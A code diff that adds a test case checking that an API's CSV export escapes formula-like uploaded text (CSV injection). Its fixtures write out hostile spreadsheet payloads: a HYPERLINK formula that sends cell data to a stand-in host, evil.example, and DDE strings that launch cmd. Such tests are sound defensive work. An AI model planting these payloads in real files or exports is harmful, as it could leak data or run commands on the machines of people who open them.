@@ -266,6 +266,24 @@ describe("reading bundles back", () => {
     );
   });
 
+  it("serves uploaded text that looks like a formula as text (CSV injection)", async () => {
+    const hostile = bundleFor("csv-injection", {
+      cluster: { ...(exampleBundle().cluster as Json), name: '=HYPERLINK("http://evil.example/?"&A1,"open")' },
+      source: { title: "+cmd|' /C calc'!A0", url: "https://example.com/-1" },
+      collector: { name: "@SUM(1+1)*cmd|' /C calc'!A0", version: "-2+3" },
+    });
+    const res = await api.upload(hostile);
+    expect(res.status).toBe(201);
+    const { id } = (await res.json()) as { id: string };
+    const csv = await (await fetch(`${api.base}/v1/bundles?format=csv&pageSize=500`)).text();
+    const row = csv.split("\n").find((line) => line.startsWith(`${id},`))!;
+    // Each such cell starts with a quote (inside the CSV quoting where the cell needs it); the count stays a number.
+    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",'+cmd|' /C calc'!A0,`);
+    expect(row).toContain(",'@SUM(1+1)*cmd|' /C calc'!A0,");
+    expect(row).toMatch(/,5$/);
+    for (const cell of row.split(",")) expect(cell).not.toMatch(/^"?[=+@\t\r]/);
+  });
+
   it("400 for a bad query, naming the parameter", async () => {
     const res = await fetch(`${api.base}/v1/bundles?pageSize=100000`);
     expect(res.status).toBe(400);
